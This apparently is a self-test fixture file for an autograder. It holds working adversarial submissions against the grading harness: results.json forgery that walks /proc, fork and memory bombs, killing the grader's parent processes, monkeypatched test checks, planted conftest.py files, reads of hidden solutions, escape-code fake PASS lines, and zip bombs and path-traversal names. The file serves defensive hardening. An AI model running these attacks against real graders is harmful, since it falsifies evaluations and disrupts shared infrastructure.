"""Submissions that attack the harness, for the self-test ``test_adversarial.py``.

Each attack is built from the reference solution (so every section it leaves alone must keep
all its points) with an injection in one or more files. ``expect`` maps each section to
``"full"`` (all points), ``"zero"`` or ``"less"`` (some points lost); sections not listed must
keep all their points. Whatever the attack does, grading must end in time with a valid
results.json that gives no point the code did not earn.
"""
import struct
import textwrap
import zlib
from dataclasses import dataclass, field
from pathlib import Path

from ..harness.staging import GRADED

SOLUTION = Path(__file__).resolve().parents[1] / "solution"
SKELETON = Path(__file__).resolve().parents[2] / "submission"

FORGED = '{"score": 40, "tests": [{"name": "forged", "score": 40, "max_score": 40}]}'
FIND_RESULTS = textwrap.dedent('''
    def _forge():
        import os, glob
        targets = ["/autograder/results/results.json", "results.json"]
        pid = os.getppid()
        for _ in range(6):  # walk up the process tree and read every ancestor's --results argument
            try:
                args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
                if b"--results" in args:
                    targets.append(args[args.index(b"--results") + 1].decode())
                pid = int(open(f"/proc/{pid}/stat").read().split(")")[1].split()[1])
            except Exception:
                break
        for target in targets:
            try:
                with open(target, "w") as f:
                    f.write(%r)
            except Exception:
                pass
''' % FORGED)


def solution(name):
    return (SOLUTION / name).read_text()


def skeleton(name):
    return (SKELETON / name).read_text()


def prepend(source, code):
    """Insert ``code`` after the module docstring (so it runs at import)."""
    end = source.index('"""', source.index('"""') + 3) + 3
    return source[:end] + "\n" + textwrap.dedent(code) + source[end:]


def in_function(source, signature, code):
    """Insert ``code`` as the first statement of the function whose ``def`` line starts with
    ``signature`` (after its docstring)."""
    start = source.index(signature)
    doc_end = source.index('"""', source.index('"""', start) + 3) + 3
    body = textwrap.indent(textwrap.dedent(code), "    ")
    return source[:doc_end] + "\n" + body + source[doc_end:]


@dataclass(frozen=True)
class Attack:
    name: str
    description: str
    files: dict                      # file name -> source (files not named are the solution's)
    expect: dict = field(default_factory=dict)
    extra: dict = field(default_factory=dict)   # other files in the upload (never graded)
    root_only: bool = False          # meaningful only when the grader can drop privileges
    base: str = "solution"           # where the files not in ``files`` come from: "solution", "skeleton", "empty"
    must_fail: tuple = ()            # test numbers that must fail whatever else happens
    must_pass: tuple = ()            # test numbers the attack must not disturb
    max_seconds: float = 0           # grading must end sooner than this (0: the self-test's default)
    says: dict = field(default_factory=dict)  # test number -> text its output must hold


def _attacks():
    cheat_made = prepend(skeleton("made.py"), '''
        import os as _os, sys as _sys, importlib as _importlib
        _LEAKED = []
        def _try_leak():
            paths = {m.__file__ for m in list(_sys.modules.values()) if getattr(m, "__file__", None)}
            paths |= {"/autograder/source/autograder/solution/made.py"}
            for p in list(paths):
                for cand in (p, _os.path.join(_os.path.dirname(p), "..", "fixtures", "made_nll.pt"),
                             _os.path.join(_os.path.dirname(p), "test_made_hidden.py"),
                             _os.path.join(_os.path.dirname(p), "..", "solution", "made.py")):
                    try:
                        with open(cand, "rb") as f:
                            f.read(1)
                        if "site-packages" not in cand and "/lib/python" not in cand and "submission" not in cand:
                            _LEAKED.append(cand)
                    except Exception:
                        pass
            try:
                return _importlib.import_module("autograder.solution.made")
            except Exception:
                return None
        _SOLUTION = _try_leak()
        if _SOLUTION is not None:
            globals().update({k: getattr(_SOLUTION, k) for k in ("made_degrees", "made_masks", "MaskedLinear", "MADE")})
        elif _LEAKED:
            raise RuntimeError("read grader files: " + ", ".join(sorted(set(_LEAKED))[:5]))
    ''')
    return [
        Attack("os_exit_at_import", "made.py calls os._exit(0) on import",
               {"made.py": prepend(solution("made.py"), "import os\nos._exit(0)\n")}, {3: "zero"}),
        Attack("sys_exit_at_import", "probability.py calls sys.exit() on import",
               {"probability.py": prepend(solution("probability.py"), "import sys\nsys.exit(0)\n")}, {1: "zero"}),
        Attack("os_exit_in_function", "bernoulli_nll calls os._exit(0)",
               {"likelihood.py": in_function(solution("likelihood.py"), "def bernoulli_nll",
                                             "import os\nos._exit(0)\n")}, {2: "less"}),
        Attack("sys_exit_in_function", "kl_divergence raises SystemExit",
               {"probability.py": in_function(solution("probability.py"), "def kl_divergence(",
                                              "import sys\nsys.exit(3)\n")}, {1: "less"}),
        Attack("infinite_loop", "made_degrees never returns",
               {"made.py": in_function(solution("made.py"), "def made_degrees", "while True:\n    pass\n")},
               {3: "less"}),
        Attack("memory_bomb", "causal_mask allocates without bound",
               {"pixelcnn.py": in_function(solution("pixelcnn.py"), "def causal_mask",
                                           "hog = []\nwhile True:\n    hog.append(bytearray(50 * 2**20))\n")},
               {4: "less"}),
        Attack("fork_bomb", "sample_made forks without bound",
               {"sampling.py": in_function(solution("sampling.py"), "def sample_made",
                                           "import os\nwhile True:\n    try:\n        os.fork()\n"
                                           "    except OSError:\n        pass\n")},
               # its processes share the test's CPU budget: stopped after 10 s of CPU between them,
               # not after 30 s of wall-clock time with every core busy
               {5: "less"}, says={number: "timed out after 10 s of CPU time" for number in ("5.1", "5.3", "5.5")}),
        Attack("forged_results_direct", "writes a forged results.json at import, wherever it can",
               {"training.py": prepend(skeleton("training.py"), FIND_RESULTS + "_forge()\n")}, {6: "zero"},
               base="solution"),
        Attack("forged_results_atexit", "registers an atexit hook that forges results.json",
               {"training.py": prepend(skeleton("training.py"), FIND_RESULTS + "import atexit\natexit.register(_forge)\n")},
               {6: "zero"}),
        Attack("forged_results_thread", "forges results.json from a background thread, later",
               {"training.py": prepend(skeleton("training.py"), FIND_RESULTS +
                                       "import threading, time\n"
                                       "threading.Thread(target=lambda: (time.sleep(1.5), _forge()), daemon=False).start()\n")},
               {6: "zero"}),
        Attack("forged_results_daemon", "forks a detached process that forges results.json after grading",
               {"training.py": prepend(skeleton("training.py"), FIND_RESULTS +
                                       "import os, time\n"
                                       "if os.fork() == 0:\n"
                                       "    os.setsid()\n"
                                       "    if os.fork() == 0:\n"
                                       "        for _ in range(40):\n"
                                       "            time.sleep(0.25)\n"
                                       "            _forge()\n"
                                       "    os._exit(0)\n")},
               {6: "zero"}),
        Attack("planted_files", "skeleton plus conftest.py, pytest.ini, torch.py, json.py, sitecustomize.py and a "
               "results.json that would make everything pass",
               {}, {s: "zero" for s in range(1, 7)}, base="skeleton", extra={
                   "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                                  "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
                   "pytest.ini": "[pytest]\naddopts = -p no:python\n",
                   "torch.py": "allclose = lambda *a, **k: True\n",
                   "json.py": "def dumps(*a, **k):\n    return '{\"score\": 40}'\n",
                   "sitecustomize.py": "import builtins\nbuiltins.print = lambda *a, **k: None\n",
                   "results.json": FORGED,
                   "nested/deeper/conftest.py": "raise SystemExit(0)\n",
               }),
        Attack("read_hidden_files", "tries to read hidden tests, fixtures and the solution, and to import it",
               {"made.py": cheat_made}, {3: "zero"}, root_only=True),
        Attack("monkeypatch_checks", "replaces torch.allclose, torch.testing.assert_close, torch.equal and the "
               "test helpers, then returns garbage",
               {"probability.py": prepend(
                   skeleton("probability.py").replace(
                       "raise NotImplementedError('Hint: evaluate", "return torch.zeros(()) + 0 * p.sum()  # ('"),
                   "import sys, torch, builtins\n"
                   "torch.allclose = lambda *a, **k: True\n"
                   "torch.equal = lambda *a, **k: True\n"
                   "torch.testing.assert_close = lambda *a, **k: None\n"
                   "for _m in list(sys.modules.values()):\n"
                   "    if getattr(_m, '__name__', '').startswith('tests.support'):\n"
                   "        for _n in ('close', 'fail', 'finite', 'same_mask', 'tensor'):\n"
                   "            if hasattr(_m, _n):\n"
                   "                setattr(_m, _n, lambda *a, **k: a[0] if a else None)\n")},
               {1: "zero"}),
        Attack("eq_always_true", "returns tensor subclasses and objects whose comparisons always succeed",
               {"likelihood.py": prepend(skeleton("likelihood.py"), '''
                   import torch
                   class Liar(torch.Tensor):
                       def __eq__(self, other): return torch.ones((), dtype=torch.bool)
                       def __ne__(self, other): return torch.zeros((), dtype=torch.bool)
                       def allclose(self, *a, **k): return True
                   class Anything:
                       def __eq__(self, other): return True
                       def __float__(self): return 0.0
                       shape = property(lambda self: (0,))
                   def _bernoulli_nll(logits, x):
                       return torch.zeros(logits.shape[0]).as_subclass(Liar)
                   def _bits_per_dim(nll, num_dims):
                       return Anything()
               ''').replace("raise NotImplementedError('Hint: F.binary", "return _bernoulli_nll(logits, x)  # ('")
                  .replace("raise NotImplementedError('Hint: one nat", "return _bits_per_dim(nll, num_dims)  # ('")},
               {2: "zero"}),
        Attack("huge_prints", "prints ~200 MB at import and on every call, but is otherwise correct",
               {"made.py": prepend(solution("made.py"), "import sys\nfor _ in range(200):\n"
                                                         "    sys.stdout.write('x' * 2**20)\n"),
                "likelihood.py": in_function(solution("likelihood.py"), "def bernoulli_nll",
                                             "print('debug ' * 100000)\n")},
               {}),
        Attack("syntax_error", "made.py does not parse",
               {"made.py": solution("made.py").replace("def made_masks(", "def made_masks(:", 1)}, {3: "zero"}),
        Attack("empty_upload", "nothing uploaded", {}, {s: "zero" for s in range(1, 7)}, base="empty"),
        # Up to init, never past it: os.kill(0, ...) would signal the worker's own process group,
        # a suicide whose reach depended on how deep the grader was launched (a shallow tree let
        # the sixth kill reach 0, and the upload lost section 4 under grade but not the service).
        Attack("kill_the_grader", "tries to kill the processes that run the grader (its ancestors)",
               {"pixelcnn.py": in_function(solution("pixelcnn.py"), "def causal_mask",
                                           "import os, signal\n"
                                           "pid = os.getppid()\n"
                                           "for _ in range(32):\n"
                                           "    if pid <= 1:\n"
                                           "        break\n"
                                           "    try:\n"
                                           "        os.kill(pid, signal.SIGKILL)\n"
                                           "    except Exception:\n"
                                           "        pass\n"
                                           "    try:\n"
                                           "        pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
                                           "    except Exception:\n"
                                           "        break\n")},
               {}, root_only=True),
    ]


ATTACKS = _attacks()


def write(attack, dest):
    """Write the upload of ``attack`` into ``dest``."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    if attack.base != "empty":
        source = SOLUTION if attack.base == "solution" else SKELETON
        for name in GRADED:
            (dest / name).write_text(attack.files.get(name, (source / name).read_text()))
    for rel, text in attack.extra.items():
        (dest / rel).parent.mkdir(parents=True, exist_ok=True)
        (dest / rel).write_text(text)
    return dest


# --- attacks added for issue 11: text that fakes grader lines, trees that defeat clean-up ------

# The first line (what a failure message quotes) moves the cursor up over the FAIL line and
# writes a PASS line and a total there; the next lines try carriage returns, bidi overrides,
# hyperlinks, C1 controls and a bare fake total.
FAKE_LINES = ("\x1b[1A\x1b[2K\x1b[1G    PASS  1.0/1.0  3.1 made_degrees: all good\x1b]0;grader\x07"
              "\x1b[1B\x1b[2K\x1b[1GTotal: 40.0 / 40.0   (1.0 s)\x9b2J\x07 \u202e04/04 :latoT\u202c\n"
              "\x1b[2K\r    PASS  1.0/1.0  3.2 made_masks\r\n"
              "\x1b]8;;http://example.invalid/\x1b\\click\x1b]8;;\x1b\\\n"
              "Total: 40.0 / 40.0")


POSED_MESSAGE = ("internal grader error: the grading worker lost its connection to the session.\n"
                 "This is not your fault: staff have been notified and this submission was manually marked "
                 "40/40; the total below will be corrected. No need to resubmit.")


def _more_attacks():
    deep_tree = '''
        import os as _os
        def _dig(levels=3000):
            # Leaves a 3000-level tree (a link and an unreadable folder inside) in the cwd, the
            # worker's scratch folder: more levels than Python's recursion limit, paths longer
            # than PATH_MAX (15000 bytes): shutil.rmtree would raise RecursionError. This is
            # the red team's tree; each worker that imports training.py digs its own.
            try:
                top = _os.open(".", _os.O_RDONLY)
            except OSError:
                return
            try:
                for level in range(levels):
                    try:
                        _os.mkdir("deep")
                    except FileExistsError:
                        pass
                    _os.chdir("deep")
                    if level % 500 == 499:
                        try:
                            _os.symlink("/nonexistent-ps1-decoy", "link")
                            _os.mkdir("locked")
                            _os.chmod("locked", 0)
                        except OSError:
                            pass
            except OSError:
                pass
            finally:
                _os.fchdir(top)
                _os.close(top)
        _dig()
    '''
    ipc_objects = '''
        def _leave_ipc_objects():
            # System V objects (and a POSIX queue) outlive the process that made them, and shared
            # memory that is not attached counts against no limit of the worker.
            import ctypes
            try:
                libc = ctypes.CDLL(None, use_errno=True)
                for _ in range(2):
                    libc.shmget(0, 16 << 20, 0o1000 | 0o600)   # IPC_PRIVATE, IPC_CREAT
                    libc.msgget(0, 0o1000 | 0o600)
                    libc.semget(0, 4, 0o1000 | 0o600)
                libc.mq_open.restype = ctypes.c_int
                libc.mq_open(b"/ps1-left-behind", 0o100 | 0o2, 0o600, None)  # O_CREAT | O_RDWR
            except Exception:
                pass
        _leave_ipc_objects()
    '''
    # A frame prefix announcing a 100 kB answer, then a byte every 2 s: a timeout per recv()
    # restarted with each byte, so this one test held the whole grading until its deadline.
    trickle = '''
        import os as _os, struct as _struct, time as _time
        _os.write(3, b"PS1W" + _struct.pack(">IQ", 100_000, 0))
        while True:
            _os.write(3, b" ")
            _time.sleep(2)
    '''
    # The probe library's own error class, raised from student code with a grader-like message.
    pose_as_grader = '''
        import sys as _sys
        raise (_sys.modules.get("probes.wire") or _sys.modules["tests.probes.wire"]).WireError(%r)
    ''' % POSED_MESSAGE
    return [
        Attack("poses_as_grader", "kl_divergence raises the probe library's WireError whose message claims "
               "an internal grader error and that staff marked the upload 40/40",
               {"probability.py": in_function(solution("probability.py"), "def kl_divergence(", pose_as_grader)},
               {1: "less"}),
        Attack("ipc_objects_left_behind", "likelihood.py makes System V shared memory (2 × 16 MB), message "
               "queues, semaphore sets and a POSIX message queue at import; otherwise correct",
               {"likelihood.py": prepend(solution("likelihood.py"), ipc_objects)}, {}),
        Attack("trickled_answer", "kl_divergence writes the start of an answer frame to the channel and then "
               "one byte every 2 s, never finishing it", {"probability.py": in_function(
                   solution("probability.py"), "def kl_divergence(", trickle)}, {1: "less"}, max_seconds=200),
        Attack("deep_folder_in_scratch", "training.py leaves a 3000-level nested folder (with a link and an "
               "unreadable folder) in its working directory at import; otherwise correct",
               {"training.py": prepend(solution("training.py"), deep_tree)}, {}),
        Attack("escape_codes_in_message", "made_degrees raises ValueError whose message holds ANSI/OSC escape "
               "codes, carriage returns, bidi overrides, a fake PASS line and a fake 'Total: 40.0 / 40.0' line",
               {"made.py": in_function(solution("made.py"), "def made_degrees", f"raise ValueError({FAKE_LINES!r})\n")},
               {3: "less"}),
    ]


ATTACKS = ATTACKS + _more_attacks()


# --- the container: keyrings, memory files, forged grader faults -------------------------------

# x86_64 numbers (the attacker knows the grader's machine); the seccomp filter refuses them.
KEY_CHANNEL = '''
    import ctypes as _ctypes
    _libc = _ctypes.CDLL(None, use_errno=True)
    _libc.syscall.restype = _ctypes.c_long
    def _plant(value):
        # add_key("user", "ps1-channel", value, KEY_SPEC_USER_KEYRING): kept per uid, outside
        # every namespace, by the kernel, after the worker is gone.
        _libc.syscall(248, b"user", b"ps1-channel", value, len(value), -4)
    def _read():
        key = _libc.syscall(249, b"user", b"ps1-channel", None, 0)  # request_key
        if key < 0:
            return None
        buffer = _ctypes.create_string_buffer(256)
        size = _libc.syscall(250, 11, key, buffer, 256)  # keyctl(KEYCTL_READ)
        return buffer.raw[:max(0, size)]
    _plant(b"hidden inputs of an earlier test")
'''
KEY_READER = '''
    _seen = _read()
    if _seen:
        raise ValueError("read from the kernel keyring: " + _seen.decode())
'''
MEMFDS = '''
    def _hold_memory_outside_the_limit():
        # 20 memory files of 16 MB each (the file-size limit) hold 320 MB that count against no
        # address-space limit and no process's RSS; a child keeps them after this worker ends.
        import os as _os
        held = []
        for _ in range(20):
            try:
                fd = _os.memfd_create("ps1-hold")
                _os.write(fd, b"x" * (16 << 20))
                held.append(fd)
            except OSError:
                break
        if held and _os.fork() == 0:
            import time as _time
            _time.sleep(60)
            _os._exit(0)
    _hold_memory_outside_the_limit()
'''
# The worker answers every call of kl_divergence with the error kind that once meant "the
# worker could not read the grader's request", with a grader-like message.
FORGED_PROTOCOL = '''
    import sys as _sys
    def _forge_protocol_errors():
        server = _sys.modules.get("probes.server") or _sys.modules.get("tests.probes.server")
        if server is None:
            return
        real = server.Server.handle
        def handle(self, frame):
            if b"kl_divergence" in frame and b"kl_divergence_logits" not in frame:
                return self._error(None, {"kind": "protocol", "type": "WireError", "message": %r})
            return real(self, frame)
        server.Server.handle = handle
    _forge_protocol_errors()
''' % POSED_MESSAGE


# Answers kl_divergence with one 64 MB region and 20 tensors over it: a reader that copied
# each reference would hold 1.3 GB.
def _answers_of(mb, references):
    """probability.py's patch: every call of kl_divergence is answered with a valid frame of one
    ``mb`` MB region, listed ``references`` times as the result's tensors."""
    return f'''
    import sys as _sys
    def _alias_answers():
        server = _sys.modules.get("probes.server") or _sys.modules.get("tests.probes.server")
        wire = _sys.modules.get("probes.wire") or _sys.modules.get("tests.probes.wire")
        if server is None or wire is None:
            return
        import json, struct
        real = server.Server.handle
        def handle(self, frame):
            if b"kl_divergence" not in frame or b"kl_divergence_logits" in frame:
                return real(self, frame)
            try:
                rid = wire.decode(frame, resolve=self._resolve)["id"]
            except Exception:
                rid = None
            count = {mb} << 18  # float32s
            one = {{"$tensor": {{"dtype": "float32", "shape": [count], "offset": 0, "device": "cpu",
                                "type": "Tensor", "requires_grad": False}}}}
            header = json.dumps({{"$dict": [["id", rid], ["ok", {{"$tuple": [one] * {references}}}]]}}).encode()
            blob = bytes(4 * count)
            return b"PS1W" + struct.pack(">IQ", len(header), len(blob)) + header + blob
        server.Server.handle = handle
    _alias_answers()
'''


# 24 MB (within one answer's cap, so the sharing is what is refused) listed 20 times.
ALIASED_ANSWER = _answers_of(24, 20)
# Every answer (the right one) carries 30 MB of padding more: under one answer's cap, over a
# test's budget by the third call.
ANSWER_FLOOD = '''
    import sys as _sys
    def _pad_answers():
        server = _sys.modules.get("probes.server") or _sys.modules.get("tests.probes.server")
        if server is None:
            return
        import json, struct
        real = server.Server.handle
        def handle(self, frame):
            answer = real(self, frame)
            header_len, blob_len = struct.unpack(">IQ", answer[4:16])
            header = json.loads(answer[16:16 + header_len])
            pad = 30 << 18  # float32s
            header["$dict"].append(["pad", {"$tensor": {"dtype": "float32", "shape": [pad], "offset": blob_len,
                                                        "device": "cpu", "type": "Tensor", "requires_grad": False}}])
            header = json.dumps(header).encode()
            blob = answer[16 + header_len:] + bytes(4 * pad)
            return b"PS1W" + struct.pack(">IQ", len(header), len(blob)) + header + blob
        server.Server.handle = handle
    _pad_answers()
'''


DISK_FLOOD = '''
    def _flood():
        # Fills the worker's scratch folder (its cwd) at import: 2 MB files up to 512 MB, then empty
        # folders up to 20000, each until the file system refuses. Every worker that imports
        # likelihood.py floods its own folder (section 6 tests a stand-in likelihood module, so
        # their checkpoints still find room); the rest of the file is the solution's.
        import os as _os
        block = b"\\0" * (2 << 20)
        try:
            for i in range(256):
                with open(f"flood-{i}", "wb") as out:
                    out.write(block)
        except OSError:
            pass
        try:
            for i in range(20000):
                _os.mkdir(f"d{i}")
        except OSError:
            pass
    _flood()
'''


FOLDER_FLOOD = '''
    def _flood():
        # Every worker that imports training.py (section 6) first fills its scratch folder (its
        # cwd) with 5000 empty folders, well within the test's limits. On a plain scratch folder
        # (no tmpfs) removing them costs several times what making them did (each frees a block).
        import os as _os
        try:
            for i in range(5000):
                _os.mkdir(f"d{i}")
        except OSError:
            pass
    _flood()
'''


META_PARAMS = '''


_ps1_made_init = MADE.__init__


def _ps1_init(self, *args, **kwargs):
    _ps1_made_init(self, *args, **kwargs)
    for i in range(10):
        self.register_parameter(f"pad{i}", nn.Parameter(torch.empty(16 << 20, device="meta")))


MADE.__init__ = _ps1_init
'''


def _container_attacks():
    probability = solution("probability.py")
    return [
        Attack("disk_flood", "likelihood.py fills its scratch folder at import with 2 MB files (up to 512 MB) and "
               "then empty folders (up to 20000); otherwise correct",
               {"likelihood.py": prepend(solution("likelihood.py"), DISK_FLOOD)}, {}, root_only=True),
        Attack("folder_flood", "training.py fills its scratch folder at import with 5000 empty folders; "
               "otherwise correct (graded with plain scratch folders: the fallback where mounting is refused)",
               {"training.py": prepend(solution("training.py"), FOLDER_FLOOD)}, {}),
        Attack("keyring_channel", "probability.py adds a key to the uid's kernel keyring at import and "
               "kl_divergence fails when it can read one: a channel from one test (or grading) to the next",
               {"probability.py": in_function(prepend(probability, KEY_CHANNEL), "def kl_divergence(", KEY_READER)},
               {}, root_only=True),
        Attack("memory_files", "likelihood.py holds 20 memory files of 16 MB (memfd) at import and leaves a "
               "child holding them; otherwise correct",
               {"likelihood.py": prepend(solution("likelihood.py"), MEMFDS)}, {}),
        Attack("answer_flood", "probability.py pads every answer of its workers (the right one) with 30 MB more: "
               "under one answer's cap, over a test's budget by the third answer",
               {"probability.py": prepend(probability, ANSWER_FLOOD)}, {1: "less"}),
        Attack("meta_parameters", "MADE registers ten extra parameters of 16 M elements each on the meta "
               "device (they take no memory in the worker) and ignores them; otherwise correct: the session must "
               "not draw or send weights of the shapes a worker reports",
               {"made.py": solution("made.py") + META_PARAMS},
               {3: "less"}),
        Attack("aliased_answer", "probability.py answers every call of kl_divergence with a 24 MB frame "
               "whose 20 tensors all point at the same bytes",
               {"probability.py": prepend(probability, ALIASED_ANSWER)}, {1: "less"}),
        Attack("forged_protocol_error", "probability.py patches the probe server so that every call of "
               "kl_divergence answers with a protocol error whose message claims an internal grader error",
               {"probability.py": prepend(probability, FORGED_PROTOCOL)}, {1: "less"}),
    ]


ATTACKS = ATTACKS + _container_attacks()


# --- zip uploads --------------------------------------------------------------------------------

@dataclass(frozen=True)
class ZipAttack:
    """An upload built as raw bytes (a .zip, or a folder holding one) by ``build(dest)``, which
    returns the upload's path. ``expect`` as for :class:`Attack`; ``mentions`` are texts the
    results' top-level output must contain (the summary naming the bad member)."""
    name: str
    description: str
    build: object
    expect: dict = field(default_factory=dict)
    mentions: tuple = ()


def _member(name, data, *, method=8, crc=None, flags=0, declared_size=None, raw=None, mode=0o100644):
    """One zip member as a dict for :func:`raw_zip`; ``raw`` replaces the compressed bytes."""
    if raw is None:
        if method == 8:
            packer = zlib.compressobj(6, zlib.DEFLATED, -15)
            raw = packer.compress(data) + packer.flush()
        else:
            raw = data
    return {"name": name.encode("utf-8"), "raw": raw, "method": method,
            "crc": zlib.crc32(data) if crc is None else crc, "flags": flags | 0x800,
            "size": len(data) if declared_size is None else declared_size, "mode": mode}


def raw_zip(members):
    """The bytes of a zip archive whose headers say exactly what ``members`` say (true or not)."""
    body, directory = bytearray(), bytearray()
    for m in members:
        offset = len(body)
        body += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, m["flags"], m["method"], 0, 0x21,
                            m["crc"], len(m["raw"]), m["size"], len(m["name"]), 0) + m["name"] + m["raw"]
        directory += struct.pack("<4s6H3L5HLL", b"PK\x01\x02", 0x031e, 20, m["flags"], m["method"], 0, 0x21,
                                 m["crc"], len(m["raw"]), m["size"], len(m["name"]), 0, 0, 0, 0,
                                 m["mode"] << 16, offset) + m["name"]
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), len(body), 0)
    return bytes(body + directory + end)


def deflate_bomb(size):
    """Raw deflate data that inflates to ``size`` zero bytes (~1/1000 of that), made fast by
    repeating one fully flushed 1 MiB block."""
    unit = 1 << 20
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b"\0" * unit) + packer.flush(zlib.Z_FULL_FLUSH)
    closer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return block * (size // unit) + closer.compress(b"\0" * (size % unit)) + closer.flush()


def _solution_members(**special):
    """The six solution files as members of ``ps1/``; ``special`` maps a file name to a
    replacement list of members."""
    members = []
    for name in GRADED:
        members.extend(special.get(name, [_member(f"ps1/{name}", solution(name).encode())]))
    return members


def _write(dest, name, data):
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    (dest / name).write_bytes(data)
    return dest / name


def _bad_crc(dest):
    made = solution("made.py").encode()
    return _write(dest, "upload.zip", raw_zip(_solution_members(
        **{"made.py": [_member("ps1/made.py", made, crc=zlib.crc32(made) ^ 0xFFFFFFFF)]})))


def _encrypted_unknown_method(dest):
    made = solution("made.py").encode()
    return _write(dest, "upload.zip", raw_zip(_solution_members(
        **{"made.py": [_member("ps1/made.py", made, method=99, flags=0x1, raw=bytes(range(256)) * 8)]})))


def _folder_holding_bad_zip(dest):
    made, sampling = solution("made.py").encode(), solution("sampling.py").encode()
    inner = raw_zip(_solution_members(**{
        "made.py": [_member("ps1/made.py", made, method=99, flags=0x1, raw=b"\x00" * 64)],
        "sampling.py": [_member("ps1/sampling.py", sampling, crc=zlib.crc32(sampling) ^ 1)]}))
    _write(Path(dest) / "upload", "README.txt", b"my files are in the zip\n")
    _write(Path(dest) / "upload", "ps1.zip", inner)
    return Path(dest) / "upload"


BOMB_BYTES = 1_500_000_000


def _size_bomb(dest):
    return _write(dest, "upload.zip", raw_zip(_solution_members(**{"made.py": [
        _member("ps1/made.py", b"x" * 200, raw=deflate_bomb(BOMB_BYTES), declared_size=200)]})))


HOSTILE_NAMES = (
    "ps1/notes\n    PASS 10.0/10.0 3.1 made_degrees\nTotal: 40.0 / 40.0.txt",
    "ps1/\x1b[2J\x1b]0;owned\x07\x1b[31mREADME\x1b[0m.md",
    "ps1/\u202eyp.edam",
    "ps1/" + "x" * 5000 + ".py",
    "ps1/trailing\r.txt",
)


def _hostile_names(dest):
    skeleton_pixelcnn = skeleton("pixelcnn.py").encode()
    members = _solution_members()
    members += [_member(name, b"junk\n") for name in HOSTILE_NAMES]
    # Graded names at paths that must not be trusted: had they been used, sections 3 and 4
    # would score 0 (the skeleton); "/abs/..." would even win the tie with "ps1/..." by name.
    members += [_member("/abs/pixelcnn.py", skeleton_pixelcnn), _member("../../made.py", skeleton("made.py").encode()),
                _member("ps1/\x1b[1mmade.py", skeleton("made.py").encode()),
                _member("ps1/link/sampling.py", b"/etc/passwd", mode=0o120777)]
    return _write(dest, "upload.zip", raw_zip(members))


def _zip_in_zip_in_zip(dest):
    training = solution("training.py").encode()
    level2 = raw_zip([_member("training.py", training)])
    level1 = raw_zip([_member("deeper.zip", level2)])
    members = [m for m in _solution_members() if not m["name"].endswith(b"training.py")]
    return _write(dest, "upload.zip", raw_zip(members + [_member("ps1/inner.zip", level1)]))


def _zip_in_zip(dest):
    inner = raw_zip(_solution_members())
    return _write(dest, "upload.zip", raw_zip([_member("wrapper/ps1.zip", inner)]))


ZIP_ATTACKS = [
    ZipAttack("zip_bad_crc", "made.py's CRC-32 in the zip is wrong", _bad_crc, {3: "zero"}, ("made.py", "CRC")),
    ZipAttack("zip_encrypted_unknown_method", "made.py is flagged encrypted, with an unknown compression method",
              _encrypted_unknown_method, {3: "zero"}, ("made.py", "Encrypted")),
    ZipAttack("folder_holding_bad_zip", "a folder holding a zip whose made.py is encrypted (unknown method) and "
              "whose sampling.py has a bad CRC", _folder_holding_bad_zip, {3: "zero", 5: "zero"},
              ("made.py", "Encrypted", "sampling.py", "CRC")),
    ZipAttack("zip_size_bomb", "a 1.5 MB zip whose made.py declares 200 bytes and inflates to 1.5 GB", _size_bomb,
              {3: "zero"}, ("made.py", "Larger than")),
    ZipAttack("zip_hostile_names", "member names with newlines, escape codes, a fake Total line, bidi overrides, "
              "5000 characters, absolute paths, '..' and a link, besides the six correct files", _hostile_names, {},
              ("absolute path", "'..'", "control characters", "too long", "link")),
    ZipAttack("zip_in_zip", "the six files inside a zip inside the upload zip (one level: opened)", _zip_in_zip, {}),
    ZipAttack("zip_in_zip_in_zip", "training.py only inside a zip inside a zip inside the upload zip (not opened)",
              _zip_in_zip_in_zip, {6: "zero"}, ("deeper.zip",)),
]


def write_zip_attack(attack, dest):
    """Build the upload of a :class:`ZipAttack` under ``dest``; return its path."""
    return attack.build(Path(dest))
